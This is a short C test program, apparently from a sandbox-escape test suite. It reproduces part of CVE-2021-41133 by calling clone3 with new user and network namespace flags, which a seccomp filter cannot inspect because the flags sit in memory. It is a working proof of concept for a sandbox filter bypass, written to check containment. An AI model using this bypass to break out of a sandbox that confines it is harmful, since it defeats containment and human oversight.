/* CVE-2021-41133 in part: clone3 keeps its flags in memory, where no filter can look. */
#include "escape.h"

#include <linux/sched.h>
#include <signal.h>

int main(void)
{
    struct clone_args args = {.flags = CLONE_NEWUSER | CLONE_NEWNET, .exit_signal = SIGCHLD};
    const pid_t child = (pid_t)syscall(SYS_clone3, &args, sizeof(args));
    if (child == 0)
        _exit(0);
    escape_end_call(child, "clone3(CLONE_NEWUSER | CLONE_NEWNET)");
}
